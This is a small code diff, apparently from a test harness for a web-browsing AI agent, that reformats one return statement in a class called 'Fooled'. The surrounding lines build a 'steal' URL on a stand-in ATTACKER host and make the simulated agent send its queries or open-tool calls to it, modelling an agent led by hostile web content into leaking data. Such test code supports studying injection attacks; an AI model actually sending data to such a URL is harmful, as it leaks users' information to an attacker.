@@ -53,7 +53,11 @@ class Fooled(GeneratedWeb):
             steal = f"http://{ATTACKER}/steal?question=all"
             if "queries" in answer:
                 return {"queries": [steal], "pages": [99]}
-            return {"tool": "open", "text": steal} | {k: v for k, v in answer.items() if k == "thought"} if "tool" in answer else answer
+            return (
+                {"tool": "open", "text": steal} | {k: v for k, v in answer.items() if k == "thought"}
+                if "tool" in answer
+                else answer
+            )
 
         return minded
 
